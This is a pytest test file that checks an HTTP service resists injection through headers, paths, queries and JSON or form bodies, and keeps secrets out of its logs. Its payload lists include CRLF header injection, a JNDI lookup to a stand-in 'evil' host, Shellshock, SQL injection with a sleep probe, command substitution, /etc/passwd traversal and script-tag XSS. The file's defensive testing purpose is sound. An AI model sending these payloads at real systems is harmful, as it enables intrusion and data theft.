# SPDX-License-Identifier: GPL-3.0-or-later
"""What is sent stays what it is: no header of an answer, no line of the log and no statement grows out of it."""
import json
from dataclasses import replace

import pytest

from examples import body_of, fields_of, request_of, sent_as
from judge import FORGED, check_log, check_reply
from wire import encode

LINE = f"2026-01-01T00:00:00.000Z millrace-front[1] error {FORGED} x=y"
HEADERS = (b"X-Request-ID", b"User-Agent", b"Referer", b"Accept", b"Accept-Language", b"Accept-Encoding", b"Origin", b"Prefer",
           b"Idempotency-Key", b"If-None-Match", b"If-Modified-Since", b"Range", b"If-Range", b"Cookie", b"X-Forwarded-For",
           b"X-Forwarded-Host", b"X-Forwarded-Proto", b"X-CSRF-Token", b"Authorization", b"X-Twilio-Signature", b"Content-Language",
           b"Access-Control-Request-Method", b"Forwarded", b"Via", b"Proxy", b"Expect-CT")
# In a header nothing ends the line but CR LF, which begins the next header: these try everything else.
IN_HEADERS = (b"x\r X-Injected: 1", b"x\x0b\x0cX-Injected: 1", b"x%0d%0aX-Injected: 1", b"x\\r\\nX-Injected: 1",
              b"x\xe5\x98\x8a\xe5\x98\x8dX-Injected: 1", b"x\xe2\x80\xa8X-Injected: 1", b"x\xc2\x85X-Injected: 1", b"\x1b[2J\x1b[31m",
              b"\x7f\x08\x08\x08", b"%s %n %99999d", b"${jndi:ldap://evil/x}", b"() { :; }; echo x", b"'; drop table account; --",
              b"\xff\xfe\xfd", b"x" * 3000, b"", b"\t", b"a" * 64 + b"\x0d" + LINE.encode())
IN_PATHS = ("%0d%0aX-Injected:%201", "%0aX-Injected:%201", "%0d" + encode(LINE).decode(), "%0a" + encode(LINE).decode(), "%1b%5b31m", "%08%7f",
            "%e2%80%a8", "%c2%85", "%25s%25n", "%27;drop%20table%20account;--", "%00", "%ff%fe", "%5cn", "$(id)", "`id`")
IN_BODIES = ("x\r\nX-Injected: 1", "\n" + LINE, "\r" + LINE, "\x1b[2J\x1b[31mred", "\x07\x08\x7f", "\u2028\u2029\x85", "%s%n%s%n", "{0}{1}",
             "'; drop table account; --", "' or '1'='1", "\\'; select pg_sleep(10); --", "$1", ":account_id", ":'x'", "$$x$$", "E'\\x'",
             "\"}],\"admin\":true,\"x\":[{\"y\":\"", "</script><script>alert(1)</script>", "../../../etc/passwd", "\ud7ff\ufffd\ufeff",
             "{{7*7}}", "${7*7}", "a\x00b", "x" * 100000)

SLOWEST = 5.0         # seconds: a statement that sleeps for ten shows


@pytest.fixture
def judge(wire, row):
    def send(request):
        reply = wire.ask_soon(request, SLOWEST)
        check_reply(row["product"], reply)
        assert not reply.headers.get("X-Injected"), request
        assert reply.seconds < SLOWEST, request
        return reply
    return send


@pytest.fixture
def caller(world, row):
    return None if row["who"] == "ANYONE" else world.victim(row)


def test_headers(judge, row, caller):
    """Each header with some of the values, each row with others."""
    plain, first = request_of(row, caller), sum(map(ord, row["product"] + row["name"]))
    for at, name in enumerate(HEADERS):
        for number in range(3):
            judge(plain.without(name.lower()).plus((name, IN_HEADERS[(first + 3 * at + number) % len(IN_HEADERS)])))


def test_a_line_in_a_header_is_a_header(world, wire, row):
    """CR LF before a blank is the old way to go on with a line; a lone LF ends one, too."""
    for name in (b"X-Request-ID", b"User-Agent", b"Origin"):
        for value in (b"x\r\n X-Injected: 1", b"x\n X-Injected: 1", b"x\nX-Injected: 1", b"x\r\nX-Injected: 1"):
            reply = wire.ask(request_of(row).plus((name, value)))
            check_reply(row["product"], reply)
            assert not reply.headers.get("X-Injected")
            assert reply.headers["X-Request-ID"] != "X-Injected: 1"


def test_paths_and_queries(judge, row, caller):
    plain = request_of(row, caller)
    names = ["x", *(field["name"] for field in fields_of(row, "query")), *row.get("page", ())]
    for text in map(str.encode, IN_PATHS):
        for end in (text, b"?" + text + b"=x", *(b"?%s=%s" % (name.encode(), text) for name in names)):
            judge(replace(plain, target=plain.target + end))
    for field in fields_of(row, "path"):
        marked = request_of(row, caller, {field["name"]: "MARK"})
        for text in map(str.encode, IN_PATHS):
            judge(replace(marked, target=marked.target.replace(b"MARK", text)))


def test_members_of_bodies(judge, row, caller):
    for field in fields_of(row, "body"):
        for text in IN_BODIES:
            if row["form"] == "parts" and "\x00" in text:
                continue
            judge(replace(request_of(row, caller), body=sent_as(row, {**body_of(row), field["name"]: text})[1]))
        if row["form"] == "json":
            nested = {**body_of(row), field["name"]: {"a\r\nb": "\r\n" + LINE}, "\r\n" + LINE: 1}
            judge(replace(request_of(row, caller), body=json.dumps(nested).encode()))


def test_the_log_has_a_line_for_each_event(world):
    check_log(world)
    assert world.log("front").stat().st_size > 0


def test_no_secret_is_in_a_log(world):
    """Of everybody whom the other tests have made: passwords and tokens."""
    people = [world.new_person(product) for product in world.products if world.guarded(product)]
    secrets = [text.encode() for person in people for text in (person.password, person.token)] + [world.settings["secret"].encode()]
    for person in people:
        world.wire().ask(request_of(next(row for row in world.guarded(person.product)), person))
    for log in world.log("front").parent.glob("*.log"):
        text = log.read_bytes()
        assert not [secret for secret in secrets if secret in text], log.name
